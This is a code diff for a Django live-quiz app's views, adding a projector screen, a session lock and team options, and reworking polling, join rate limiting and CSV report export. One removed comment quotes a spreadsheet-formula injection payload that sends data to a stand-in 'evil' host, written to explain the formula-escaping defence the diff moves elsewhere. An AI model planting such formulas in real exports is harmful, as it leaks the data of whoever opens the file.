@@ -1,12 +1,14 @@
-"""Live quiz pages: the instructor's host screen and the players' phone screen.
+"""Live quiz pages: the host's screen, the presenter's (projector) screen, the players' phones.
 
-Both screens poll a fragment of their own page about once a second. The fragment carries an
-ETag (the session's version, the countdown second, ...): an unchanged screen costs a 304,
-and a finished session answers 286, htmx's "stop polling".
+State changes are pushed over WebSockets (``consumers``, ``push``); these views serve the
+pages, the answers, and the polling that is the fallback (and keeps the host's answer count
+live). A polled fragment carries an ETag built from what it shows, never from the countdown
+(browsers run it from the deadline): an unchanged screen costs a 304, and a finished session
+answers 286, htmx's "stop polling".
 """
 
-import csv
 import math
+import time
 from functools import wraps
 
 from django.conf import settings
@@ -16,16 +18,16 @@ from django.core.exceptions import PermissionDenied
 from django.http import HttpResponse, HttpResponseRedirect
 from django.shortcuts import get_object_or_404, redirect, render
 from django.urls import reverse
-from django.utils import timezone
 from django.utils.translation import gettext as _
 from django.views.decorators.cache import never_cache
-from django.views.decorators.http import require_GET, require_http_methods, require_POST
+from django.views.decorators.http import require_http_methods, require_POST, require_safe
 from django.views.decorators.vary import vary_on_headers
 
+from studyapp import spreadsheet
 from studyapp.accounts.roles import is_instructor
-from studyapp.notes.views import HtmxHttpRequest
+from studyapp.http import HtmxHttpRequest
 
-from . import codes, ratelimit, selectors, services
+from . import codes, ratelimit, screens, selectors, services
 from .forms import SessionForm
 from .models import LiveSession, Player
 
@@ -95,14 +97,14 @@ def _with_etag(response: HttpResponse, etag: str) -> HttpResponse:
 # --- host --------------------------------------------------------------------------------------
 
 
-@require_GET
+@require_safe
 @instructor_required
 def index(request: HtmxHttpRequest) -> HttpResponse:
     sessions = selectors.host_sessions(request.user)[:50]
     return render(request, "live/index.html", {"sessions": sessions})
 
 
-@require_http_methods(["GET", "POST"])
+@require_http_methods(["GET", "HEAD", "POST"])
 @instructor_required
 def session_new(request: HtmxHttpRequest) -> HttpResponse:
     form = SessionForm(request.POST or None, host=request.user)
@@ -116,6 +118,8 @@ def session_new(request: HtmxHttpRequest) -> HttpResponse:
                     questions=form.chosen_questions(),
                     time_limit=form.cleaned_data["time_limit"],
                     streak_bonus=form.cleaned_data["streak_bonus"],
+                    team_count=form.cleaned_data["team_count"] or 0,
+                    hide_leaderboard=form.cleaned_data["hide_leaderboard"],
                 )
             except services.LiveError as error:
                 form.add_error(None, error.message)
@@ -125,39 +129,31 @@ def session_new(request: HtmxHttpRequest) -> HttpResponse:
     return render(request, "live/new.html", {"form": form}, status=status)
 
 
-def _host_context(request, session: LiveSession) -> dict:
-    now = timezone.now()
-    item = selectors.current_item(session)
-    context = {
-        "session": session,
-        "item": item,
-        "remaining": _seconds(services.remaining_ms(session, now)),
-        "players": list(selectors.active_players(session)),
-        "join_url": request.build_absolute_uri(reverse("live:join")),
-    }
-    if session.state == LiveSession.State.OPEN:
-        context["choices"] = selectors.shown_choices(item)
-        context["answered"] = selectors.answered_count(session)
-    elif session.state == LiveSession.State.CLOSED:
-        context["choices"] = selectors.revealed_choices(item)
-        context["answered"] = selectors.answered_count(session)
-        context["standings"] = selectors.leaderboard(session, limit=10)
-    elif session.state == LiveSession.State.FINISHED:
-        standings = selectors.leaderboard(session)
-        context["standings"] = standings
-        context["podium"] = [s for s in standings if s.rank <= 3][:3]
-    context["item_count"] = session.items.count()
+def _server_now_ms() -> int:
+    return int(time.time() * 1000)
+
+
+def _join_url(request, session: LiveSession) -> str:
+    return request.build_absolute_uri(f"{reverse('live:join')}?code={session.code}")
+
+
+def _host_context(request, session: LiveSession, *, full_list: bool = True) -> dict:
+    context = screens.watch_context(
+        session, join_url=_join_url(request, session), full_list=full_list
+    )
+    context["join_url"] = request.build_absolute_uri(reverse("live:join"))
+    context["join_base"] = context["join_url"]
+    context["server_now_ms"] = _server_now_ms()
     return context
 
 
-def _host_etag(request, session: LiveSession) -> str:
-    remaining = _seconds(services.remaining_ms(session))
+def _host_etag(request, session: LiveSession, prefix: str = "h") -> str:
     answered = selectors.answered_count(session) if session.state == "open" else 0
     players = selectors.active_players(session).count()
-    return f'"h{session.version}.{remaining}.{answered}.{players}.{request.LANGUAGE_CODE}"'
+    return f'"{prefix}{session.version}.{answered}.{players}.{request.LANGUAGE_CODE}"'
 
 
-@require_GET
+@require_safe
 @instructor_required
 @never_cache
 @vary_on_headers("HX-Request")
@@ -175,6 +171,25 @@ def host(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
     return _with_etag(
         render(request, "live/host.html#panel", _host_context(request, session)), etag
     )
+
+
+@require_safe
+@instructor_required
+@never_cache
+@vary_on_headers("HX-Request")
+def present(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
+    """The projector: join code and QR code, the question, the answer count, bars, podium."""
+    session = services.session_tick(session=_hosted(request, session_id))
+    template = "live/present.html#panel" if request.htmx else "live/present.html"
+    if not request.htmx:
+        return render(request, template, _host_context(request, session, full_list=False))
+    etag = _host_etag(request, session, prefix="s")
+    if not session.finished and _not_modified(request, etag):
+        return _with_etag(HttpResponse(status=304), etag)
+    response = render(request, template, _host_context(request, session, full_list=False))
+    if session.finished:
+        response.status_code = STOP_POLLING
+    return _with_etag(response, etag)
 
 
 def _host_reply(request, session: LiveSession, error: str = "", status: int = 200):
@@ -213,27 +228,22 @@ def kick(request: HtmxHttpRequest, session_id: int, player_id: int) -> HttpRespo
     return _host_reply(request, session)
 
 
-# A cell starting with one of these is a formula to a spreadsheet: a nickname such as
-# =HYPERLINK("http://evil/?"&A1) would run when the instructor opens the report (OWASP "CSV
-# injection"). A leading apostrophe makes it text.
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+@require_POST
+@instructor_required
+def lock(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
+    session = _hosted(request, session_id)
+    services.session_lock(session=session, locked=request.POST.get("locked") == "1")
+    session.refresh_from_db()
+    return _host_reply(request, session)
 
 
-def _csv_cell(value):
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
-
-
-@require_GET
+@require_safe
 @instructor_required
 def report(request: HtmxHttpRequest, session_id: int) -> HttpResponse:
     session = _hosted(request, session_id)
     response = HttpResponse(content_type="text/csv; charset=utf-8")
     response["Content-Disposition"] = f'attachment; filename="live-{session.code}-{session.pk}.csv"'
-    writer = csv.writer(response)
-    writer.writerow(selectors.REPORT_HEADER)
-    writer.writerows([_csv_cell(cell) for cell in row] for row in selectors.report_rows(session))
+    spreadsheet.write_rows(response, [selectors.REPORT_HEADER, *selectors.report_rows(session)])
     return response
 
 
@@ -244,38 +254,42 @@ def _player(request, code: str) -> Player | None:
     return selectors.player_for_token(code, request.COOKIES.get(_cookie_name(code)))
 
 
-@require_http_methods(["GET", "POST"])
+@require_http_methods(["GET", "HEAD", "POST"])
 @never_cache
 def join(request: HtmxHttpRequest) -> HttpResponse:
     # "123 456" as read out from the screen is the code 123456.
     code = "".join((request.POST.get("code") or request.GET.get("code") or "").split())
     nickname = request.POST.get("nickname", "")
     context = {"code": code, "nickname": nickname, "error": ""}
-    if request.method == "GET":
+    if request.method != "POST":
         # A cookie from a finished quiz whose code was drawn again must not hide the form.
         player = _player(request, code) if codes.looks_like_code(code) else None
         if player is not None and not player.session.finished:
             return redirect("live:play", code)
         return render(request, "live/join.html", context)
 
-    ip = ratelimit.client_ip(request)
-    if ratelimit.join_blocked(ip=ip):
+    if not codes.looks_like_code(code):  # a typo that cannot be a code is not a guess
+        context["error"] = _("No running quiz has that code. Check the 6 digits on the screen.")
+        return render(request, "live/join.html", context, status=400)
+    ticket = ratelimit.join_attempt(request)
+    if not ticket.allowed:
+        ratelimit.join_succeeded(ticket)  # refused unread: it was not a guess
         context["error"] = _(
-            "Too many wrong codes from your network. Wait a few minutes and try again."
+            "Too many wrong codes from your network today. Ask your host for help, or try again later."
         )
         return render(request, "live/join.html", context, status=429)
     session = selectors.session_for_code(code)
     if session is None:
-        ratelimit.join_failure_record(ip=ip)
         context["error"] = _("No running quiz has that code. Check the 6 digits on the screen.")
-        return render(
-            request, "live/join.html", context, status=404 if codes.looks_like_code(code) else 400
-        )
+        return render(request, "live/join.html", context, status=404)
+    ratelimit.join_succeeded(ticket)
     existing = _player(request, code)
     if existing is not None and existing.session_id == session.pk:
         return redirect("live:play", code)  # a reload or a second tap: same player
     try:
-        _player_obj, token = services.player_join(session=session, nickname=nickname)
+        _player_obj, token = services.player_join(
+            session=session, nickname=nickname, user=request.user
+        )
     except services.LiveError as error:
         context["error"] = error.message
         return render(request, "live/join.html", context, status=error.status)
@@ -294,44 +308,21 @@ def join(request: HtmxHttpRequest) -> HttpResponse:
 
 def _player_context(player: Player, error: str = "") -> dict:
     session = player.session
-    item = selectors.current_item(session)
-    context = {
-        "session": session,
-        "player": player,
-        "item": item,
-        "error": error,
-        "remaining": _seconds(services.remaining_ms(session)),
-    }
+    context = {"session": session, "player": player, "error": error,
+               "server_now_ms": _server_now_ms()}  # fmt: skip
     if player.kicked:
         return context
-    state = session.state
-    if state == LiveSession.State.OPEN:
-        context["answer"] = selectors.player_answer(player, item)
-        if context["answer"] is None:
-            # Only the choices' ids, letters and text: nothing says which one is right.
-            context["choices"] = selectors.shown_choices(item)
-    elif state == LiveSession.State.CLOSED:
-        context["answer"] = answer = selectors.player_answer(player, item)
-        letters = selectors.letters_for(item)
-        context["correct_letters"] = sorted(
-            letters[c.id] for c in selectors.revealed_choices(item) if c.correct
-        )
-        context["my_letters"] = (
-            sorted(letters.get(pk, "?") for pk in answer.choice_ids) if answer else []
-        )
-        context["rank"] = selectors.player_rank(player)
-    elif state == LiveSession.State.FINISHED:
-        context["rank"] = selectors.player_rank(player)
-        context["podium"] = [s for s in selectors.leaderboard(session, limit=3) if s.rank <= 3]
+    context |= screens.stage_context(session)
+    context["me"] = selectors.player_view(player)
     return context
 
 
-def _player_screen(request, player: Player) -> str:
-    """What the player's screen shows, the countdown aside: the session's and player's versions."""
-    return f"p{player.session.version}.{player.rev}.{request.LANGUAGE_CODE}"
+def _player_etag(request, player: Player) -> str:
+    """What the player's screen shows: the session's and the player's versions (no clock)."""
+    return f'"p{player.session.version}.{player.rev}.{request.LANGUAGE_CODE}"'
 
 
-@require_GET
+@require_safe
 @never_cache
 @vary_on_headers("HX-Request", "Cookie")
 def play(request: HtmxHttpRequest, code: str) -> HttpResponse:
@@ -344,22 +335,13 @@ def play(request: HtmxHttpRequest, code: str) -> HttpResponse:
     if not request.htmx:
         return render(request, "live/play.html", _player_context(player))
     session = player.session
-    remaining = _seconds(services.remaining_ms(session))
-    screen = _player_screen(request, player)
-    etag = f'"{screen}.{remaining}"'
+    etag = _player_etag(request, player)
     if session.finished or player.kicked:
         response = render(request, "live/play.html#panel", _player_context(player))
         response.status_code = STOP_POLLING
         return _with_etag(response, etag)
     if _not_modified(request, etag):
         return _with_etag(HttpResponse(status=304), etag)
-    if remaining is not None and any(tag.startswith(f"{screen}.") for tag in _sent_etags(request)):
-        # Only the countdown moved: send just that element, the rest of the screen stays.
-        context = {"session": session, "remaining": remaining}
-        response = render(request, "live/play.html#countdown", context)
-        response["HX-Retarget"] = "#player-countdown"
-        response["HX-Reswap"] = "outerHTML"
-        return _with_etag(response, etag)
     return _with_etag(render(request, "live/play.html#panel", _player_context(player)), etag)
 
 
@@ -371,28 +353,31 @@ def answer(request: HtmxHttpRequest, code: str) -> HttpResponse:
         return render(request, "live/play.html#gone", {"code": code}, status=403)
     error, status = "", 200
     try:
-        position = int(request.POST.get("question", "")) - 1
-        choice_ids = [int(value) for value in request.POST.getlist("choice")]
-        if position < 0:
-            raise ValueError("question numbers start at 1")
+        number = int(request.POST.get("question", ""))
     except ValueError:
         error, status = _("That answer could not be read. Choose again."), 400
     else:
         try:
-            recorded = services.answer_submit(
-                player=player, position=position, choice_ids=choice_ids
+            recorded = services.answer_letters(
+                player=player, number=number, letters=request.POST.getlist("choice")
             )
         except services.LiveError as failure:
             error, status = failure.message, failure.status
     if not error:
         if not request.htmx:
             return HttpResponseRedirect(reverse("live:play", args=[code]), status=303)
-        # "Answer sent", from what is at hand: the busiest moment of a quiz, keep it cheap.
-        session = player.session
-        context = {"session": session, "player": player, "item": recorded.item,
-                   "answer": recorded, "remaining": _seconds(services.remaining_ms(session))}  # fmt: skip
-        return render(request, "live/play.html#panel", context)
+        # "Answer sent": the busiest moment of a quiz, so a constant fragment, nothing read.
+        response = render(request, "live/_answered.html", {"question": recorded.item.number})
+        response["X-Live-Answered"] = str(recorded.item.number)
+        return response
     player.refresh_from_db()
     player.session.refresh_from_db()
-    template = "live/play.html#panel" if request.htmx else "live/play.html"
-    return render(request, template, _player_context(player, error), status=status)
+    if not request.htmx:
+        return render(request, "live/play.html", _player_context(player, error), status=status)
+    response = render(
+        request, "live/play.html#panel", _player_context(player, error), status=status
+    )
+    # The form asked for its own area; an error redraws the whole panel, with the message.
+    response["HX-Retarget"] = "#player-panel"
+    response["HX-Reswap"] = "outerHTML"
+    return response
